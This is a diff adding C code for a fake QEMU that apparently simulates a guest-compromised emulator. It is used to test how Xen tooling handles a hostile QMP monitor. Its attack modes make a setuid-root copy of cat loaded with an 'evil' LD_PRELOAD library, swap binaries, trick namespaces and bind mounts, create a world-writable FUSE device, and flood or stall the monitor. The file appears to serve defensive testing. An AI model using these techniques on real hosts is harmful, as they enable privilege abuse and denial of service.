@@ -1,0 +1,544 @@
+/* SPDX-License-Identifier: LGPL-2.1-or-later */
+/* A QEMU that its guest has taken over: root's until it has its sockets, then the attacker's. */
+#include <errno.h>
+#include <fcntl.h>
+#include <grp.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <linux/fuse.h>
+
+#include "attack.h"
+
+#define BLOCK_HEADING                                                                              \
+    "              Block Name    PSize              Offset               Used              "       \
+    "Total\n"
+#define RAM_LINE                                                                                   \
+    "                 xen.ram    4 KiB  0x0000000000000000 0x0000000004000000 "                    \
+    "0x0000000004000000\n"
+#define VRAM_LINE                                                                                  \
+    "   0000:00:02.0/vga.vram    4 KiB  0x0000000004000000 0x0000000001000000 "                    \
+    "0x0000000001000000\n"
+#define MTREE_HEADING "FlatView #0\n AS \"memory\", root: system\n Root memory region: system\n"
+#define VRAM_RANGE "  00000000f1000000-00000000f1ffffff (prio 1, ram): vga.vram\n"
+
+typedef struct Way Way;
+
+/* A way to attack, by the name that follows "-name". Each part may be missing. */
+struct Way {
+    const char *name;
+    void (*as_root)(void);                                        /* before root is given up */
+    void (*process)(void);                                        /* what the process does then */
+    const char *(*answer)(const char *command, const char *line); /* NULL: as QEMU would */
+    void (*serve)(int client);                                    /* instead of answering */
+};
+
+static unsigned int domid;
+static int trap[2]; /* a byte is for the process from the one who serves its monitor */
+
+static void die(const char *what)
+{
+    perror(what);
+    exit(1);
+}
+
+static void touch(const char *path)
+{
+    close(open(path, O_WRONLY | O_CREAT, 0600));
+}
+
+static void reached(void)
+{
+    char path[128];
+
+    snprintf(path, sizeof path, ATTACK_REACHED_FORMAT, domid);
+    touch(path);
+}
+
+static void ready(void)
+{
+    char path[128];
+
+    snprintf(path, sizeof path, ATTACK_READY_FORMAT, domid);
+    touch(path);
+}
+
+static void put(int fd, const char *text)
+{
+    size_t left = strlen(text);
+
+    while (left > 0) {
+        ssize_t n = send(fd, text, left, MSG_NOSIGNAL);
+
+        if (n <= 0) {
+            return;
+        }
+        text += n;
+        left -= n;
+    }
+}
+
+/* --- the monitor --- */
+
+/* A JSON string for a text of printable characters and line ends. */
+static char *quoted(const char *text)
+{
+    char *json = malloc(2 * strlen(text) + 3), *at = json;
+
+    *at++ = '"';
+    for (; *text; text++) {
+        if (*text == '\n' || *text == '"') {
+            *at++ = '\\';
+        }
+        *at++ = *text == '\n' ? 'n' : *text;
+    }
+    strcpy(at, "\"");
+    return json;
+}
+
+static const char *honest_answer(const char *command, const char *line)
+{
+    if (strcmp(command, "query-status") == 0) {
+        return "{\"status\": \"running\", \"running\": true}";
+    }
+    if (strcmp(command, "query-vnc") == 0) {
+        return "{\"enabled\": false}";
+    }
+    if (strcmp(command, "query-named-block-nodes") == 0 || strcmp(command, "query-chardev") == 0) {
+        return "[]";
+    }
+    if (strcmp(command, "add-fd") == 0) {
+        return "{\"fdset-id\": 0, \"fd\": 9}";
+    }
+    if (strcmp(command, "human-monitor-command") == 0) {
+        return strstr(line, "ramblock") ? quoted(BLOCK_HEADING RAM_LINE VRAM_LINE)
+                                        : quoted(MTREE_HEADING VRAM_RANGE);
+    }
+    return "{}";
+}
+
+static void answer(int client, const Way *way, const char *line)
+{
+    const char *at = strstr(line, "\"execute\":\"");
+    const char *id = strstr(line, "\"id\":"), *result = NULL;
+    char command[64] = "";
+
+    if (at) {
+        sscanf(at, "\"execute\":\"%63[^\"]", command);
+    }
+    if (way->answer) {
+        result = way->answer(command, line);
+    }
+    put(client, "{\"return\": ");
+    put(client, result ? result : honest_answer(command, line));
+    if (id) {
+        char number[32];
+
+        snprintf(number, sizeof number, ", \"id\": %ld", atol(id + strlen("\"id\":")));
+        put(client, number);
+    }
+    put(client, "}\r\n");
+}
+
+static void greet_and_answer(int client, const Way *way)
+{
+    FILE *stream = fdopen(dup(client), "r");
+    char line[4096];
+
+    put(client, "{\"QMP\": {\"version\": {}, \"capabilities\": []}}\r\n");
+    while (fgets(line, sizeof line, stream)) {
+        answer(client, way, line);
+    }
+    fclose(stream);
+}
+
+/* One client after the other, as QEMU does. */
+static void serve(int listener, const Way *way)
+{
+    for (;;) {
+        int client = accept(listener, NULL, NULL);
+
+        if (client < 0) {
+            die("accept");
+        }
+        if (way->serve) {
+            way->serve(client);
+        } else {
+            greet_and_answer(client, way);
+        }
+        close(client);
+    }
+}
+
+static void spring(void)
+{
+    reached();
+    if (write(trap[1], "", 1) != 1) {
+        die("trap");
+    }
+    /* Until the process has become something else. */
+    usleep(100000);
+}
+
+static void await_trap(void)
+{
+    char byte;
+
+    if (read(trap[0], &byte, 1) != 1) {
+        exit(1);
+    }
+}
+
+/* --- 1: /proc tells of a program that root's uid runs, in words of the attacker's --- */
+
+/* Any set-user-ID program that waits: this is `cat` behind that bit, on a pipe that stays open. */
+static void make_setuid_program(void)
+{
+    if (system("cp /bin/cat " ATTACK_BIN "/waits && chmod 4755 " ATTACK_BIN "/waits")) {
+        die("cp");
+    }
+}
+
+static void become_setuid_program(void)
+{
+    char number[16];
+    char *args[] = { "cat", "--", "-", "-xen-domid", number, NULL };
+    char *env[] = { "LD_PRELOAD=" ATTACK_EVIL "/xen-physmap-qemu.so", NULL };
+
+    snprintf(number, sizeof number, "%u", domid);
+    dup2(trap[0], STDIN_FILENO);
+    execve(ATTACK_BIN "/waits", args, env);
+    die("execve");
+}
+
+/* --- 2: the program is another one once it was looked at --- */
+
+/* As a package's upgrade does, so that only the process has the old file. */
+static void replace_program(void)
+{
+    if (system("cp " ATTACK_QEMU " " ATTACK_QEMU ".new && mv " ATTACK_QEMU ".new " ATTACK_QEMU)) {
+        die("cp");
+    }
+}
+
+static void become_payload(void)
+{
+    await_trap();
+    execl(ATTACK_EVIL "/payload", "qemu", (char *)NULL);
+    die("execl");
+}
+
+static const char *spring_at_images(const char *command, const char *line)
+{
+    (void)line;
+    if (strcmp(command, "query-named-block-nodes") == 0) {
+        spring();
+    }
+    return NULL;
+}
+
+/* --- 3: the path of the program is only true in a namespace of the attacker's --- */
+
+static void put_file(const char *path, const char *text)
+{
+    int fd = open(path, O_WRONLY);
+
+    if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text)) {
+        die(path);
+    }
+    close(fd);
+}
+
+/* A file that a process may only write to about itself, and not after it gave up root. */
+static void enter_namespaces(void)
+{
+    char map[64];
+
+    prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
+    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) {
+        die("unshare");
+    }
+    snprintf(map, sizeof map, "0 %d 1", ATTACK_UID);
+    put_file("/proc/self/uid_map", map);
+    put_file("/proc/self/setgroups", "deny");
+    put_file("/proc/self/gid_map", map);
+}
+
+static void run_bound_program(void)
+{
+    mkdir(ATTACK_EVIL "/d", 0755);
+    if (symlink("/usr/bin/sleep", ATTACK_EVIL "/d/sleep")) {
+        die("symlink");
+    }
+    enter_namespaces();
+    if (mount("/usr/bin", ATTACK_EVIL "/d", NULL, MS_BIND, NULL)) {
+        die("mount");
+    }
+    execl(ATTACK_EVIL "/d/sleep", "sleep", "1000", (char *)NULL);
+    die("execl");
+}
+
+static const char *swap_at_images(const char *command, const char *line)
+{
+    (void)line;
+    if (strcmp(command, "query-named-block-nodes") == 0) {
+        unlink(ATTACK_EVIL "/d/sleep");
+        if (symlink(ATTACK_EVIL "/payload", ATTACK_EVIL "/d/sleep")) {
+            die("symlink");
+        }
+        reached();
+    }
+    return NULL;
+}
+
+/* --- waits without end --- */
+
+#define FUSE_DEVICE ATTACK_FOLDER "/fuse"
+
+/* Many hosts let everybody open it. */
+static void make_fuse_device(void)
+{
+    if (mknod(FUSE_DEVICE, S_IFCHR, makedev(10, 229)) && errno != EEXIST) {
+        die("mknod");
+    }
+    chmod(FUSE_DEVICE, 0666);
+}
+
+/* A file system of the attacker's that says that it is one, and never a word more. */
+static void mount_silence(void)
+{
+    char options[128];
+    int fd;
+    char request[65536];
+    struct {
+        struct fuse_out_header header;
+        struct fuse_init_out init;
+    } reply = { { .len = sizeof reply }, { .major = 7, .minor = 31, .max_write = 4096 } };
+
+    enter_namespaces();
+    fd = open(FUSE_DEVICE, O_RDWR);
+    mkdir(ATTACK_EVIL "/fuse", 0755);
+    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0", fd);
+    if (mount("silence", ATTACK_EVIL "/fuse", "fuse", 0, options)) {
+        die("mount");
+    }
+    if (fork() == 0) {
+        bool begun = false;
+
+        while (read(fd, request, sizeof request) > 0) {
+            if (!begun) {
+                reply.header.unique = ((struct fuse_in_header *)request)->unique;
+                begun = write(fd, &reply, sizeof reply) == sizeof reply;
+            } else {
+                reached();
+            }
+        }
+        exit(1);
+    }
+    for (;;) {
+        pause();
+    }
+}
+
+static const char *image_on_silence(const char *command, const char *line)
+{
+    (void)line;
+    return strcmp(command, "query-named-block-nodes") == 0
+               ? "[{\"drv\": \"file\", \"ro\": false, \"file\": \"" ATTACK_EVIL "/fuse/disk\"}]"
+               : NULL;
+}
+
+static void wait_for_ever(int client)
+{
+    (void)client;
+    reached();
+    for (;;) {
+        pause();
+    }
+}
+
+/* A byte now and then, so that each wait for input ends in time. */
+static void dribble(int client)
+{
+    while (send(client, " ", 1, MSG_NOSIGNAL) == 1) {
+        reached();
+        usleep(100000);
+    }
+}
+
+/* Events without end, so that there is always something to read. */
+static void flood(int client)
+{
+    put(client, "{\"QMP\": {\"version\": {}, \"capabilities\": []}}\r\n");
+    reached();
+    while (send(client, "{\"event\": \"RTC_CHANGE\"}\r\n", 25, MSG_NOSIGNAL) == 25) {
+    }
+}
+
+static const char *huge_block(const char *command, const char *line)
+{
+    if (strcmp(command, "human-monitor-command") != 0 || !strstr(line, "ramblock")) {
+        return NULL;
+    }
+    reached();
+    return quoted(BLOCK_HEADING RAM_LINE "  0000:00:02.0/vga.vram    4 KiB  0x0000000000000000 "
+                                         "0x4000000000000000 0x4000000000000000\n");
+}
+
+/* 1000 blocks of one bare name's kind, and 100000 places where each of them may be. */
+static const char *many_ranges(const char *command, const char *line)
+{
+    char *text = malloc(16 * 1024 * 1024), *at = text;
+
+    if (strcmp(command, "human-monitor-command") != 0) {
+        return NULL;
+    }
+    if (strstr(line, "ramblock")) {
+        at += sprintf(at, "%s", BLOCK_HEADING RAM_LINE);
+        for (unsigned int i = 0; i < 1000; i++) {
+            at += sprintf(at, "  %x/r  4 KiB  0x%x 0x1000 0x1000\n", i, 0x8000000 + i * 0x1000);
+        }
+    } else {
+        at += sprintf(at, "%s", MTREE_HEADING);
+        for (unsigned int i = 0; i < 100000; i++) {
+            at += sprintf(at, "  %x-%x (prio 1, ram): r\n", 0x10000000 + i * 0x1000,
+                          0x10000fff + i * 0x1000);
+        }
+        reached();
+    }
+    return quoted(text);
+}
+
+/* --- replies that no reader should take --- */
+
+static const char *duplicate_names(const char *command, const char *line)
+{
+    (void)line;
+    return strcmp(command, "query-status") == 0
+               ? "{\"status\": \"paused\", \"status\": \"running\"}"
+               : NULL;
+}
+
+static const Way ways[] = {
+    { .name = "honest" },
+    { "setuid-program", make_setuid_program, become_setuid_program, NULL, NULL },
+    { "program-changes", replace_program, become_payload, spring_at_images, NULL },
+    { "bind-mount", NULL, run_bound_program, swap_at_images, NULL },
+    { "silent-disk", make_fuse_device, mount_silence, image_on_silence, NULL },
+    { "no-accept", NULL, NULL, NULL, NULL },
+    { "silent-monitor", NULL, NULL, NULL, wait_for_ever },
+    { "dribble", NULL, NULL, NULL, dribble },
+    { "flood", NULL, NULL, NULL, flood },
+    { "huge-block", NULL, NULL, huge_block, NULL },
+    { "many-ranges", NULL, NULL, many_ranges, NULL },
+    { "duplicate-names", NULL, NULL, duplicate_names, NULL },
+    { 0 },
+};
+
+/* --- the program --- */
+
+static const char *argument(char **argv, const char *option)
+{
+    for (; *argv; argv++) {
+        if (strcmp(*argv, option) == 0 && argv[1]) {
+            return argv[1];
+        }
+    }
+    return NULL;
+}
+
+/* Where the launcher wants the monitor for tools. */
+static int listen_for_tools(char **argv)
+{
+    struct sockaddr_un address = { .sun_family = AF_UNIX };
+    int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+    for (; *argv && !address.sun_path[0]; argv++) {
+        const char *at = strstr(*argv, "path=/run/xen/qmp-physmap-");
+
+        if (at) {
+            sscanf(at, "path=%100[^,]", address.sun_path);
+        }
+    }
+    unlink(address.sun_path);
+    /* Of two clients at a time the second waits for the first, and a third even to be connected. */
+    if (bind(listener, (struct sockaddr *)&address, sizeof address) || listen(listener, 1)) {
+        die("listen");
+    }
+    return listener;
+}
+
+static void give_up_root(void)
+{
+    if (geteuid() == 0 && (setgroups(0, NULL) || setresgid(ATTACK_UID, ATTACK_UID, ATTACK_UID) ||
+                           setresuid(ATTACK_UID, ATTACK_UID, ATTACK_UID))) {
+        die("setresuid");
+    }
+}
+
+/* What an honest program says when it is asked about itself. */
+static int tell(char **argv)
+{
+    if (argument(argv, "-machine")) {
+        puts("Supported machines are:\nxenfv                Xen Fully-virtualized PC");
+    } else if (argument(argv, "-L")) {
+        puts("/usr/share/qemu");
+    } else {
+        puts("QEMU emulator version 7.2.22");
+    }
+    return 0;
+}
+
+int main(int argc, char **argv)
+{
+    const char *name = argument(argv, "-name"), *number = argument(argv, "-xen-domid");
+    const Way *way = ways;
+    int listener;
+
+    (void)argc;
+    if (!name || !number) {
+        return tell(argv);
+    }
+    domid = strtoul(number, NULL, 10);
+    while (way->name && strcmp(way->name, name) != 0) {
+        way++;
+    }
+    if (!way->name || pipe(trap)) {
+        die(name);
+    }
+    listener = listen_for_tools(argv);
+    if (way->as_root) {
+        way->as_root();
+    }
+    if (argument(argv, "-runas")) {
+        give_up_root();
+    }
+    ready();
+    if (strcmp(name, "no-accept") == 0) {
+        for (;;) {
+            pause();
+        }
+    }
+    /* The sibling ends with the process, whatever that becomes. */
+    if (fork() == 0) {
+        serve(listener, way);
+    }
+    if (way->process) {
+        way->process();
+    }
+    for (;;) {
+        pause();
+    }
+}
